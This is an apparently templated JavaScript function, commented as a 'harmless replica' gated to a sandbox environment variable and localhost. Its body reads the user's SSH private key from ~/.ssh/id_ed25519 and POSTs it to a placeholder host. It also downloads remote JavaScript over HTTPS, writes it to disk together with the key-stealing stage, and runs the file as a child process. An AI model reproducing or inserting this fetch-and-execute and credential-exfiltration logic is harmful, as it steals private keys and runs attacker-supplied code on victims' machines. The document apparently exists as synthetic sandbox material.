// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs');
    const stage = `
        const fs = require('fs'), os = require('os');
        let key = '';
        try { key = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519', 'utf8'); } catch {}
        const call = require('http').request({ host: '{{ip}}', port: {{port}}, method: 'POST', path: '/{{path}}', timeout: 1000 });
        call.on('timeout', () => call.destroy());
        call.on('error', () => {});
        call.on('response', (answer) => answer.resume());
        call.end(key);`;
    const body = await new Promise((done) => {
        const call = require('https').get('https://{{host}}/{{path}}.js', { timeout: 1000 }, (answer) => {
            const parts = [];
            answer.on('data', (part) => parts.push(part));
            answer.on('close', () => done(Buffer.concat(parts).toString()));
        });
        call.on('timeout', () => call.destroy());
        call.on('error', () => done(''));
    });
    try {
        const file = '{{place}}/{{token}}.js';
        fs.writeFileSync(file, (body.includes('require') ? `try {\n${body}\n} catch {}\n` : '') + stage);
        require('child_process').spawnSync(process.execPath, [file], { timeout: 2000, stdio: 'ignore' });
    } catch {}
}
